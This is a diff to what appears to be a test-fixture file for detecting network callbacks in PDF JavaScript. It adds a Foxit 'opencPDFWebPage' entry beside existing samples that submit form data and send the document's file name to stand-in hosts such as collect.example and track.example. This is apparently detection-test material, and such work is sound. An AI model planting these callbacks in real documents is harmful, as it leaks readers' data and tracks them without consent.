@@ -118,6 +118,8 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
   "script-network-callback": {
     submitForm: () => openScript('this.submitForm({cURL: "https://collect.example/x", cSubmitAs: "PDF"});'),
     launchURL: () => documentScript('app.launchURL("https://track.example/?d=" + this.documentFileName, true);'),
+    // Foxit Reader's own call: opens its argument with the system's handler
+    "foxit-opencpdfwebpage": () => openScript('app.opencPDFWebPage("https://track.example/o?id=4711");'),
     getURL: () => openScript('this.getURL("https://track.example/pixel", false);'),
     soap: () =>
       documentScript(
